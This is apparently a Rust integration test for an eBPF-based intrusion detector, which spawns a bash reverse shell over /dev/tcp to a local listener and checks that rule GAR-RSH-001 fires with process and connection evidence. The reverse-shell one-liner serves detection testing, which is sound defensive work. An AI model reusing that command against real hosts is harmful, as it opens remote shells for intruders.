//! The whole of it on the running kernel, acted out harmlessly.

use std::time::Duration;

use engine::content::Catalogue;
use model::finding::Evidence;

use super::*;

/// How long an alarm may take; the machine is shared.
const WAIT: Duration = Duration::from_secs(20);

fn start() -> Option<Pipeline> {
    let mut options = Options::new(Catalogue::embedded().unwrap());
    options.learn = Duration::from_hours(1);
    let pipeline = Pipeline::start(options).unwrap();
    if pipeline.health().tier != sensor::Tier::Ebpf {
        eprintln!(
            "skipped: this kernel or user has no eBPF sensor: {:?}",
            pipeline.health().missing
        );
        return None;
    }
    Some(pipeline)
}

#[test]
fn a_shell_on_a_socket_is_an_alarm_with_its_evidence() {
    let Some(pipeline) = start() else { return };
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec bash -i <&3 >&3 2>&3");
    let mut child = std::process::Command::new("bash").args(["-c", &script]).spawn().unwrap();
    let (mut stream, _) = listener.accept().unwrap();
    std::io::Write::write_all(&mut stream, b"true\nexit\n").unwrap();
    let (found, met) = pipeline.until(WAIT, |it| it.rule == "GAR-RSH-001");
    drop(stream);
    child.wait().unwrap();
    assert!(met, "{:?}", found.iter().map(|it| &it.rule).collect::<Vec<_>>());
    let alarm = found.iter().find(|it| it.rule == "GAR-RSH-001").unwrap();
    let chain = alarm.evidence.iter().find_map(|it| match it {
        Evidence::Processes { chain } => Some(chain),
        _ => None,
    });
    let chain = chain.unwrap();
    assert!(chain[0].is_subject && chain[0].executable.ends_with("/bash"), "{chain:?}");
    assert!(chain.iter().any(|it| it.pid == std::process::id()), "{chain:?}");
    let remote = format!("127.0.0.1:{port}");
    assert!(
        alarm
            .evidence
            .iter()
            .any(|it| matches!(it, Evidence::Connection { remote: it, .. } if *it == remote)),
        "{:?}",
        alarm.evidence
    );
    assert!(!alarm.incident.is_empty());
    pipeline.stop().unwrap();
}
